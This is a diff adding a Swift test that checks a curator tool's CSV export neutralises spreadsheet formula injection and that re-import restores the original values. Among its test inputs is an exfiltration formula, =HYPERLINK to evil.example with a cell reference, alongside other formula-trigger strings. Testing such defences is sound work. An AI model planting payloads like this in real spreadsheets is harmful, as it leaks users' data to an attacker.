@@ -225,6 +225,49 @@ struct CuratorTests {
         )
     }
 
+    @Test("No cell of an export is a formula, and an import undoes what keeps it from being one")
+    func formulas() async throws {
+        let box = try Sandbox()
+        let texts = [
+            "=HYPERLINK(\"https://evil.example?\"&A1;\"Guide\")", "+39 06 1234", "-1", "@SUM(A1:A9)", "'=1",
+            "''quoted''",
+            "'tis", "\t=1", "＝1+1", "=\u{301}1", "\"=1\"", "a;b,c\nd",
+        ]
+        for (number, text) in texts.enumerated() {
+            let members: [String: String] = ["title": "T\(number)", "description": text, "text": text]
+            let file = box.path + "/record.json"
+            try JSONEncoder().encode(members).write(to: URL(filePath: file))
+            let added = try await run(box, "add", "--id", "r\(number)", "--from", file)
+            #expect(added.code == 0, "\(added.errors)")
+        }
+        let file = box.path + "/table.csv"
+        #expect(try await run(box, "export", "-o", file).code == 0)
+        // As a spreadsheet reads it: Python's reader is not ours.
+        let script = """
+            import csv, sys
+            rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
+            print(len(rows), len({len(row) for row in rows}), sum(cell[:1] in tuple("=+-@\\t\\r\\n＝") for row in rows for cell in row if cell))
+            """
+        let read = try await Program.launch("python3", ["-c", script, file])
+        #expect(read.output == "\(texts.count + 1) 1 0\n", "\(read.output) \(read.errors)")
+        let untouched = try await run(box, "import", file)
+        #expect(
+            untouched.code == 0 && untouched.output.hasPrefix("0 changed"),
+            "\(untouched.output) \(untouched.errors)"
+        )
+        let other = try Sandbox()
+        _ = try await run(other, "token", "create", "--role", "member", "--name", "m")
+        let moved = try await run(other, "import", file, "--create")
+        #expect(moved.code == 0, "\(moved.errors)")
+        for number in texts.indices {
+            let here = try await run(box, "show", "r\(number)", "--json").json(whole: true)
+            let there = try await run(other, "show", "r\(number)", "--json").json(whole: true)
+            #expect(
+                here["text"] == there["text"] && here["metadata"]["description"] == there["metadata"]["description"]
+            )
+        }
+    }
+
     @Test("The report tells what documents lack, and what is searched in vain, from three times on")
     func report() async throws {
         let box = try Sandbox()
